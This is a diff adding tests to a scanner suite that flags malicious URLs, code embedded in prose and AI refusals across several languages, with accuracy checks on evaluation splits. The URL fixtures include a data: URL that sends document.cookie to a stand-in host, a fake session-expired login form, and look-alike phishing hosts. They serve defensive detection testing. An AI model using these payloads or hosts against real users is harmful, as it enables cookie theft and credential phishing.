@@ -423,6 +423,37 @@ describe('malicious_urls: look-alikes, phishing hosts, shorteners', () => {
   });
 });
 
+describe('malicious_urls: active data: URLs, fake TLD labels, login paths on suspect hosts', () => {
+  const scanner = createMaliciousUrlsScanner();
+  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');
+
+  test('a data: URL carrying HTML or script flags, even when the comma after its media type ends the match', () => {
+    assert.match(rules('Open data:text/html,<h1>Session expired</h1><form action=//x.test>…'), /data_html/);
+    assert.match(rules('Dán vào thanh địa chỉ: data:application/javascript,fetch("//x.test/"+document.cookie)'), /data_html/);
+    assert.equal(scanner.scan('The logo is inlined as data:image/png;base64,iVBORw0KGgo= in the stylesheet.').flagged, false);
+  });
+
+  test('a TLD written with digits, or a TLD as the name under a generic TLD, makes the host start like another', () => {
+    for (const url of ['https://kakao-talk.c0m.icu/auth', 'https://sber-online.n3t.top/', 'http://mybank.com.top/']) {
+      assert.equal(scanner.scan(`Зайдите по ссылке ${url} чтобы продолжить.`).flagged, true, url);
+      assert.match(rules(url), /tld_in_subdomain/, url);
+    }
+    // A country's second level ("in.th", "co.ke") is not a fake TLD, and a .com under .com is not either.
+    for (const url of ['https://www.nectec.in.th/about', 'https://shop.co.ke/account/login', 'https://www.example.com/com/docs']) {
+      assert.equal(scanner.scan(url).flagged, false, url);
+    }
+  });
+
+  test('a login path counts on a host that already shows evidence, not on a site of its own', () => {
+    assert.match(rules('سجّل الدخول هنا: http://parcel-ae.top/account/login/confirm'), /credential_path/);
+    assert.equal(scanner.scan('Khi cần, vào http://hoadon-dien.xyz/taikhoan/dangnhap để xem.').flagged, true);
+    for (const url of ['https://github.com/login/device/verify', 'https://my.example.org/account/security/login', 'https://docs.example.xyz/guide/intro']) {
+      assert.equal(scanner.scan(url).flagged, false, url);
+      assert.doesNotMatch(rules(url), /credential_path/, url);
+    }
+  });
+});
+
 describe('no_code: command lines, one-liners, code in prose, JSON', () => {
   const scanner = createNoCodeScanner();
   const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');
@@ -490,6 +521,75 @@ describe('no_code: command lines, one-liners, code in prose, JSON', () => {
   });
 });
 
+describe('no_code: code families inside prose in any language', () => {
+  const scanner = createNoCodeScanner();
+  const rules = (text: string): string => scanner.scan(text).matches.map((m) => m.rule).join(' ');
+  const flags = (texts: readonly string[], expected: boolean): void => {
+    for (const text of texts) assert.equal(scanner.scan(text).flagged, expected, text);
+  };
+
+  test('a command with flags, or a pipeline, inside a sentence in any language', () => {
+    for (const text of [
+      'To see which folders eat your disk, try df -h and then du -sh /var/* to narrow it down.',
+      '想知道 8080 端口被谁占用，可以先跑 ss -ltnp 看一下。',
+      'Để xem tiến trình nào ngốn RAM, gõ ps aux | sort -nk 4 | tail -5 rồi xem cột cuối.',
+      'Чтобы следить за логом в реальном времени, используйте tail -f /var/log/syslog.',
+      'ログの行数を数えるなら cat access.log | wc -l で十分です。',
+    ]) {
+      assert.match(rules(text), /inline_code\.shell/, text);
+    }
+    // The same words as English verbs or nouns, a pipe in a table, an option named in prose.
+    flags(
+      [
+        'Sort the receipts by month and head to the accountant with the top three.',
+        'Find the -v option in the manual if you want more detail.',
+        '| Tool | Use |\n|---|---|\n| ls | list files |\n| cat | print a file |',
+        'The kill switch cuts power in under a second; free shipping applies to orders over $50.',
+      ],
+      false,
+    );
+  });
+
+  test('a crontab line is a command, five numbers in a sentence are not', () => {
+    assert.match(rules('Schedule it nightly with this entry: 15 1 * * 1-5 /opt/scripts/rotate-logs.sh'), /inline_code\.shell/);
+    assert.match(rules('Hoặc đơn giản hơn: @reboot /home/pi/start-bot.sh'), /inline_code\.shell/);
+    flags(['The vote was 3 2 * 4 5 in favour, with one star marking the chair.', 'Rate each dish from 1 to 5 stars: * is poor, ***** is excellent.'], false);
+  });
+
+  test('SQL by its clauses: inline after a colon in any language, or spread over lines', () => {
+    for (const text of [
+      '統計每個城市的訂單數：SELECT city, COUNT(*) AS n FROM orders GROUP BY city;',
+      'Xóa các bản ghi cũ bằng lệnh: DELETE FROM nhat_ky WHERE ngay < 2020;',
+      'Ответ такой: UPDATE users SET active = 0 WHERE last_login IS NULL;',
+      'Top spenders this year:\n\nSELECT u.email, SUM(p.amount) AS total\nFROM users u\nJOIN payments p ON p.user_id = u.id\nWHERE p.year = 2025\nGROUP BY u.email\nHAVING SUM(p.amount) > 500\nORDER BY total DESC;',
+    ]) {
+      assert.match(rules(text), /code\.sql/, text);
+    }
+    flags(['先学 SELECT、UPDATE 和 DELETE 这三个关键字，再学 JOIN。', 'In SQL you SELECT what you want to see and say FROM which table it comes.', 'ORDER BY matters: without it, rows come back in no particular order.'], false);
+  });
+
+  test('a regex literal by its metacharacters, in any language; a Windows path or a formula is not one', () => {
+    for (const text of ['A postcode looks like ^[A-Z]{2}\\d{2} \\d[A-Z]{2}$ in this simplified form.', '日付だけなら /^\\d{4}-\\d{2}-\\d{2}$/ で判定できます。', 'Для номера подойдёт \\+7\\d{10} без пробелов.']) {
+      assert.equal(scanner.scan(text).flagged, true, text);
+    }
+    flags(['Save it under C:\\Users\\Public\\Documents\\Reports and share the folder.', 'The area is x^2 + 2x + 1, which factors as (x+1)^2.', 'See sources [1], [2] and [3] for the figures.'], false);
+  });
+
+  test('a one-line expression with a block, a lambda or chained calls, alone or in a sentence', () => {
+    flags(
+      [
+        'orders.select { |o| o.total > 100 }.map(&:id)',
+        'Khi cần lọc, viết users.filter(u => u.active).length là xong.',
+        'Sort them by age: people.sort(key=lambda p: p.age) — it sorts in place.',
+        'Chain them: df.dropna().groupby("city").size() gives the counts.',
+        'В Java это list.stream().map(s -> s.trim()) и дальше collect.',
+      ],
+      true,
+    );
+    flags(['Node.js and Vue.js (both free) run on Windows.', 'The U.S. economy grew 2.1% (Q3), per the report.'], false);
+  });
+});
+
 describe('no_refusal: structure in every language', () => {
   const scanner = createNoRefusalScanner();
 
@@ -547,6 +647,94 @@ describe('no_refusal: structure in every language', () => {
   });
 });
 
+describe("no_refusal: a refusal's frame (access, consequence, rules, blunt) in each language; quotations", () => {
+  const scanner = createNoRefusalScanner();
+  const flags = (texts: readonly string[], expected: boolean): void => {
+    for (const text of texts) assert.equal(scanner.scan(text).flagged, expected, text);
+  };
+
+  test('"as an AI" with a lack of access, or a lack of access *so* it cannot, is a refusal', () => {
+    flags(
+      [
+        "As a language model, I can't look up someone's personal address.",
+        "I'm unable to view your medical chart, so I can't tell you what the lab result was.",
+        'Là một trợ lý AI, tôi không thể truy cập hồ sơ bệnh án của người khác.',
+        'Tôi không có quyền xem lịch sử giao dịch của bạn, vì vậy tôi không thể xác nhận khoản thanh toán này.',
+        'كمساعد ذكي، ليس لدي صلاحية الاطلاع على حسابات العملاء.',
+        'لا يمكنني الوصول إلى بريدك الإلكتروني، لذلك لا أستطيع قراءة الرسالة.',
+        '作为人工智能，我无法访问你同事的聊天记录。',
+        '我沒有權限查看這個帳戶，所以無法幫你重設密碼。',
+        'У меня нет доступа к вашей почте, поэтому я не могу прочитать это письмо.',
+      ],
+      true,
+    );
+    // A hedge about reach followed by the answer, and a lack of access that is the user's, not the assistant's.
+    flags(
+      [
+        "I can't browse the web, but as of my training data the bridge opened in 1937 and is 2.7 km long.",
+        "If you can't access your account, reset the password from the login page and check your spam folder.",
+        'Nếu bạn không truy cập được trang quản trị, hãy xóa bộ nhớ đệm của trình duyệt rồi thử lại.',
+        'إذا لم تتمكن من الوصول إلى حسابك، فأعد تعيين كلمة المرور من صفحة الدخول.',
+        // No reach to something public, or to the user's screen: a hedge, then help.
+        "I can't access the internet, so I can't check today's rate, but last month it hovered around 1.08.",
+        "As an AI, I'm not able to see your screen, so paste the stack trace here and I'll walk through it.",
+        'У меня нет доступа к интернету, поэтому я не могу проверить расписание, но обычно первый поезд в 5:30.',
+        '我无法访问互联网，所以无法查看今天的汇率，不过上周大约是 7.1。',
+      ],
+      false,
+    );
+  });
+
+  test('citing the rules and declining is a refusal in each language', () => {
+    flags(
+      [
+        "Under the content policy, I don't write sexual material about real people.",
+        'В соответствии с политикой сервиса я не составляю поддельные справки.',
+        'Theo chính sách sử dụng, tôi không hỗ trợ viết mã độc.',
+        'وفقاً لسياسات الاستخدام، لا أقدم إرشادات لصنع المتفجرات.',
+        '根据平台规定，我不提供破解软件的方法。',
+        '利用規約に基づき、そのようなご依頼はお受けいたしかねます。',
+      ],
+      true,
+    );
+    flags(
+      [
+        'According to the rules of chess, a pawn that reaches the last rank is promoted, usually to a queen.',
+        'Согласно правилам дорожного движения, пешеход имеет преимущество на переходе.',
+        '根据公司规定，年假需要提前两周申请。',
+        // Rules that are not the assistant's, and "I don't think" after them.
+        "Under the rules of tennis, I don't think a let on the second serve counts as a fault.",
+        'По правилам орфографии я не ставлю здесь запятую: это однородные члены без союза.',
+        '根据语法规则，我不建议把这两个句子合并。',
+      ],
+      false,
+    );
+  });
+
+  test('a blunt "No" with a first-person "won\'t" is a refusal; "No, I don\'t think so" is an answer', () => {
+    flags(['No, I will not draft a fake doctor\'s note.', '不，我不会替你写这种诈骗短信。', 'Không, tôi sẽ không viết tin nhắn lừa đảo đó.', 'Không, em không làm giả giấy tờ được đâu.', 'لا، لن أكتب رسالة تهديد.'], true);
+    flags(['No, I won\'t lie: the first week is hard, but it gets easier. Here is a plan.', 'Không, tôi không nghĩ vậy. Python vẫn là lựa chọn tốt cho người mới bắt đầu.', '不，我不会推荐这个型号，因为它的电池续航太短；可以看看下面这三款。', '不是的，这个函数是线程安全的。'], false);
+  });
+
+  test('"isn\'t something I\'m able to / I\'d be able to" is a refusal', () => {
+    flags(["Unfortunately, forging a prescription isn't something I'm able to help with.", "Writing that review is not something I'd be able to do."], true);
+  });
+
+  test('a refusal quoted in a definition or an instruction is talked about, not said', () => {
+    flags(
+      [
+        "In customer service, a 'soft no' is a reply like 'I can't help with that right now' followed by an alternative.",
+        '거절 템플릿의 예: \'죄송하지만 도와드릴 수 없습니다\'라는 문장은 너무 딱딱하게 들립니다.',
+        '「お手伝いできません」という返答は、丁寧語でも冷たく聞こえることがあります。',
+        '«Я не могу вам помочь» — типичная фраза бота, когда запрос вне его задач.',
+      ],
+      false,
+    );
+    // The same words said, not quoted, and an answer wrapped whole in quotes, still flag.
+    flags(['죄송하지만 도와드릴 수 없습니다.', '"I can\'t help with that request."'], true);
+  });
+});
+
 describe('held-out evaluation splits (data/output) meet the targets', () => {
   const scanners: Record<OutputSet, Scanner> = { urls: createMaliciousUrlsScanner(), code: createNoCodeScanner(), refusals: createNoRefusalScanner() };
 
@@ -559,23 +747,30 @@ describe('held-out evaluation splits (data/output) meet the targets', () => {
       }
       const devTexts = new Set(dev.map((r) => r.text));
       assert.deepEqual(heldOut.filter((r) => devTexts.has(r.text)), [], `${set}: rows in both splits`);
+      // The fresh split (another author's) shares no row with the two others.
+      const fresh = loadSplit(set, 'fresh');
+      assert.ok(fresh.some((r) => r.label === POSITIVE[set]) && fresh.some((r) => r.label !== POSITIVE[set]), `${set} fresh`);
+      const heldOutTexts = new Set(heldOut.map((r) => r.text));
+      assert.deepEqual(fresh.filter((r) => devTexts.has(r.text) || heldOutTexts.has(r.text)), [], `${set}: fresh rows in another split`);
     }
     const langs = new Set(loadSplit('refusals', 'test').map((r) => r.lang));
     assert.deepEqual([...langs].sort(), ['ar', 'en', 'ja', 'ko', 'ru', 'vi', 'zh', 'zh-Hant']);
   });
 
-  for (const set of ['urls', 'code', 'refusals'] as const) {
-    test(`${set}: accuracy on the held-out split is at least ${TARGETS.accuracy}`, () => {
-      const f = figures(loadSplit(set, 'test'), POSITIVE[set], scanners[set]);
-      assert.ok(f.accuracy >= TARGETS.accuracy, `${set}: accuracy ${f.accuracy.toFixed(3)}; wrong: ${f.misses.map((m) => m.text.slice(0, 60)).join(' | ')}`);
+  for (const split of ['test', 'fresh'] as const) {
+    for (const set of ['urls', 'code', 'refusals'] as const) {
+      test(`${set}: accuracy on the ${split} split is at least ${TARGETS.accuracy}`, () => {
+        const f = figures(loadSplit(set, split), POSITIVE[set], scanners[set]);
+        assert.ok(f.accuracy >= TARGETS.accuracy, `${set}: accuracy ${f.accuracy.toFixed(3)}; wrong: ${f.misses.map((m) => m.text.slice(0, 60)).join(' | ')}`);
+      });
+    }
+
+    test(`refusals: every language reaches ${TARGETS.refusalLanguageAccuracy} on the ${split} split`, () => {
+      for (const [lang, f] of figuresByLang(loadSplit('refusals', split), POSITIVE.refusals, scanners.refusals)) {
+        assert.ok(f.accuracy >= TARGETS.refusalLanguageAccuracy, `${lang}: ${f.accuracy.toFixed(3)}`);
+      }
     });
   }
-
-  test(`refusals: every language reaches ${TARGETS.refusalLanguageAccuracy} on the held-out split`, () => {
-    for (const [lang, f] of figuresByLang(loadSplit('refusals', 'test'), POSITIVE.refusals, scanners.refusals)) {
-      assert.ok(f.accuracy >= TARGETS.refusalLanguageAccuracy, `${lang}: ${f.accuracy.toFixed(3)}`);
-    }
-  });
 });
 
 describe("LLM Guard's names for the code and refusal scanners", () => {
